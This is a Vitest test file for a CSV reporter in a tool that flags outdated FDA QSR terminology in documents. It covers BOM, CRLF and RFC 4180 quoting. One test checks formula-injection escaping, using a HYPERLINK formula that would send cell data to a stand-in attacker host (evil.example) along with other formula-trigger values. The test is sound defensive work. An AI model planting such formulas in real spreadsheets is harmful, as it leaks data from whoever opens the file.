import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvReporter } from '../../src/reporters/csv.js';
import { DOCX, MD, XLSX, emptyResult, findingOf, scanResult } from './fixture.js';
import { parseCsv } from './rfc4180.js';

const BOM = '\ufeff';

function table(text: string): Record<string, string>[] {
  expect(text.startsWith(BOM)).toBe(true);
  const [header, ...rows] = parseCsv(text.slice(1));
  expect(header).toEqual([...CSV_COLUMNS]);
  return rows.map((r) => {
    expect(r).toHaveLength(CSV_COLUMNS.length);
    return Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]!]));
  });
}

describe('csv reporter', () => {
  const out = csvReporter(scanResult(), {});

  it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
    expect(out.charCodeAt(0)).toBe(0xfeff);
    expect(out.endsWith('\r\n')).toBe(true);
    expect(Buffer.from(out, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('has a header and one row per finding', () => {
    const rows = table(out);
    expect(rows).toHaveLength(scanResult().findings.length);
    expect(rows.map((r) => r.file)).toEqual([XLSX, XLSX, XLSX, DOCX, DOCX, ...Array<string>(3).fill('SOPs/SOP-014 CAPA.pdf'), MD, MD, MD, MD]);
  });

  it('round-trips commas, quotes and line breaks through RFC 4180 quoting', () => {
    const rows = table(out);
    const dhr = rows.find((r) => r.term === 'Device History Record' && r.file === MD)!;
    expect(dhr.match).toBe('Device History\nRecord');
    expect(dhr.message).toBe(findingOf(scanResult(), MD, 'Device History\nRecord').message);
    const capa = rows.find((r) => r.citation === '820.100')!;
    expect(capa.message).toContain('8.5.2, 8.5.3');
    expect(out).toContain('"""DMR"" is QSR-era terminology.');
    expect(out).toContain('"Device History\nRecord"');
  });

  it('quotes a lone CR or LF too, which Excel would otherwise read as a new row', () => {
    const r = scanResult();
    findingOf(r, DOCX, 'DHF').message = 'first\rsecond';
    const rows = table(csvReporter(r, {}));
    expect(rows.find((x) => x.match === 'DHF')!.message).toBe('first\rsecond');
  });

  it('fills location columns from the finding and leaves the others empty', () => {
    const rows = table(out);
    expect(rows.find((r) => r.citation === '820.100')).toMatchObject({ page: '1', line: '', column: '', paragraph: '3', sheet: '', cell: '', location: 'p.1 ¶3' });
    expect(rows.find((r) => r.citation === '820.50')).toMatchObject({ page: '', line: '14', column: '3', paragraph: '', location: '14:3' });
    expect(rows.find((r) => r.match === 'Quality System Record')).toMatchObject({ sheet: 'Training 2024', cell: 'C4', location: "'Training 2024'!C4" });
    expect(rows.find((r) => r.match === 'DHF')).toMatchObject({ paragraph: '2', location: 'footnotes ¶2' });
    expect(rows.find((r) => r.citation === '820.30(g)')).toMatchObject({
      replacement: 'ISO 13485:2016 clause 7.3.7 (21 CFR 820.10(c))',
      kbRefs: 'qsr.820.30(g); cw.820.30(g)',
    });
  });

  it('puts an apostrophe before any cell a spreadsheet would run as a formula', () => {
    const r = scanResult();
    const f = findingOf(r, DOCX, '21 CFR 820.30(g)');
    f.match = '=HYPERLINK("http://evil.example/?"&A1,"21 CFR 820.30(g)")';
    f.message = '+SUM(1,2)';
    f.location = { sheet: '@Ops', cell: 'A1' };
    f.file = '-rf.docx';
    f.replacements = [{ text: '\tISO 13485:2016' }];
    f.kbRefs = ['\rqsr.820.30(g)'];
    const rows = table(csvReporter(r, {}));
    const row = rows.find((x) => x.file?.endsWith('-rf.docx'))!;
    expect(row).toMatchObject({
      file: "'-rf.docx",
      match: '\'=HYPERLINK("http://evil.example/?"&A1,"21 CFR 820.30(g)")',
      message: "'+SUM(1,2)",
      sheet: "'@Ops",
      replacement: "'\tISO 13485:2016",
      kbRefs: "'\rqsr.820.30(g)",
    });
    const bullet = rows.find((x) => x.ruleId === 'stale-statement')!;
    expect(bullet.match).toBe("'- Internal audit reports are not subject to FDA inspection");
    // Ordinary text is left alone.
    expect(rows.find((x) => x.citation === '820.50')!.match).toBe('21 CFR 820.50');
  });

  it('writes only the header for an empty scan', () => {
    expect(csvReporter(emptyResult(), {})).toBe(`${BOM}${CSV_COLUMNS.join(',')}\r\n`);
  });
});
